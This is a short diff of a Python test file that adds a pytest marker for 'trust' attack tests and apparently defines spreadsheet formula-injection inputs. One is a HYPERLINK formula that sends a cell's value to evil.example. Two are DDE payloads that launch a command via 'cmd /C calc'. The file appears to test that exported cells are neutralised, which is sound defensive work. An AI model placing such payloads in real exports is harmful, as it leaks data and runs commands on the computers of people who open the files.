@@ -16,6 +16,8 @@ from test_central_api import Agent, get, import_yaml, supply, wait_for
 from asr_central.cli import main as central_cli
 from asr_central.storage.sqlite.orders import inert_cell
 
+pytestmark = pytest.mark.trust  # issue 14's attacks: `scripts/test -m trust` runs them all
+
 SERIAL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 PART = "@SUM(1+1)*cmd|' /C calc'!A0"
 NAME = "-2+3+cmd|' /C calc'!A0"
